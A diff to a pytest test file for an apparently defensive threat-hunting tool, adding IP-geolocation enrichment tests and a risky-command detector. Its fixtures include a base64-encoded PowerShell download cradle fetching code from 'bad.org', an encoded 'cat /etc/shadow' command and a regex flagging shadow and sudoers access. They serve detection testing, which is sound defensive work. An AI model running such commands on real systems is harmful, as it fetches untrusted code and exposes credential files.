@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 
+from graphhunt.analyses.enrichers import ipstack
 from graphhunt.analyses.enrichers.services import leaving
 from graphhunt.analyses.extract import Extract
 from graphhunt.analyses.registry import analyses
@@ -19,12 +20,15 @@ from graphhunt.errors import UsageError
 from graphhunt.questions import pivots
 from graphhunt.store import Store
 from graphhunt.store.statements import create_nodes
+from graphhunt.toolbox import ip_stack
 from graphhunt.toolbox.intel import tilookup
 from tests.toolbox.intel import answers
 from tests.toolbox.mmdb import write_mmdb
 
 SECRET_TEXT = "IEX (New-Object Net.WebClient).DownloadString('http://bad.org/a')"
 ENCODED = base64.b64encode(SECRET_TEXT.encode("utf-16-le")).decode()
+
+SHADOW = base64.b64encode(b"cat /etc/shadow").decode()
 
 
 @pytest.fixture
@@ -38,6 +42,7 @@ def graph(store: Store) -> Store:
             {"id": "p1", "machine_id": "m", "command_line": f"powershell -enc {ENCODED}", "path": "c:\\ps.exe"},
             {"id": "p2", "machine_id": "m", "command_line": "ping 1.2.3.4", "path": "ping"},
             {"id": "p3", "machine_id": "m"},
+            {"id": "p4", "machine_id": "m", "command_line": f"echo {SHADOW}", "path": "/bin/echo"},
         ],
     }
     for label, rows in nodes.items():
@@ -114,16 +119,21 @@ def test_places_and_sites(graph: Store, tmp_path: Path, monkeypatch: pytest.Monk
 
 
 def test_what_asks_nobody(graph: Store) -> None:
-    for name in ("domains", "decoded", "iocs", "command-scores"):
+    for name in ("domains", "decoded", "iocs", "command-scores", "risky-commands"):
         analyze(graph, name)
     assert found(graph, "domains", "Domain")["evil.org"]["domain_registered"].lower() == "evil.org"
-    assert not found(graph, "domains", "Domain")["printer"]["domain_known_ending"]
+    printer = found(graph, "domains", "Domain")["printer"]
+    assert (printer["domain_known_ending"], printer["domain_registered"]) == (False, None)  # nobody registered it
     decoded = found(graph, "decoded", "Process")
-    assert decoded.keys() == {"p1"}
+    assert decoded.keys() == {"p1", "p4"}
+    assert decoded["p4"]["decoded_text"] == "cat /etc/shadow"
     assert decoded["p1"]["decoded_text"] == SECRET_TEXT
     iocs = found(graph, "iocs", "Process")
     assert iocs["p2"]["ioc_values"] == "1.2.3.4"
     assert "http://bad.org/a" in iocs["p1"]["ioc_values"].split(", ")
+    risky = found(graph, "risky-commands", "Process")
+    assert risky.keys() == {"p4"}
+    assert (risky["p4"]["risky_rules"], risky["p4"]["risky_count"]) == (r"/etc/(?:shadow|sudoers)\b", 1)
     scores = found(graph, "command-scores", "Process")["p2"]
     assert (scores["score_length"], scores["score_path"]) == (len("ping 1.2.3.4"), sum(map(ord, "ping")))
 
@@ -155,6 +165,29 @@ def test_services(graph: Store, monkeypatch: pytest.MonkeyPatch) -> None:
     assert len(net.requests) == 2
     analyze(graph, "greynoise")
     assert len(net.requests) == 2  # the workspace keeps the answers
+
+
+def test_places_asked_of_a_service(graph: Store, monkeypatch: pytest.MonkeyPatch) -> None:
+    place = {"country_code": "US", "country_name": "United States", "city": "Los Angeles", "latitude": 34.0453,
+             "longitude": -118.2413}  # fmt: skip
+    net = answers.Net(answers.json([{"ip": "8.8.4.4", **place}, {"ip": "9.9.9.9", "country_code": None}]))
+    monkeypatch.setattr(ip_stack, "Wire", net.wire)
+    monkeypatch.setenv("GRAPHHUNT_INTEL_IPSTACK_KEY", "k")
+    listed = ipstack.leaving(Extract(graph, {}), {"most": 10, "bulk": True})
+    assert {row["value"]: row["kept_back"] for row in listed} == {
+        "8.8.4.4": None, "9.9.9.9": None, "10.1.2.3": "an address that is not public",
+    }  # fmt: skip
+    with pytest.raises(UsageError, match="off"):
+        analyze(graph, "ipstack")
+    settle(graph, monkeypatch, intel_enabled=True)
+    with pytest.raises(UsageError, match="at most 2"):
+        analyze(graph, "ipstack", {"most": 2})
+    assert net.requests == []
+    assert analyze(graph, "ipstack", {"bulk": True})["written"] == {"IP": 1}
+    row = found(graph, "ipstack", "IP")["8.8.4.4"]
+    assert (row["ipstack_city"], row["ipstack_latitude"], row["ipstack_source"]) == ("Los Angeles", 34.0453, "IPStack")
+    analyze(graph, "ipstack", {"bulk": True})
+    assert [request.url.path for request in net.requests] == ["/8.8.4.4,9.9.9.9"]  # the workspace keeps the answers
 
 
 def test_domains_of_machines_that_logged_never_leave(graph: Store, monkeypatch: pytest.MonkeyPatch) -> None:
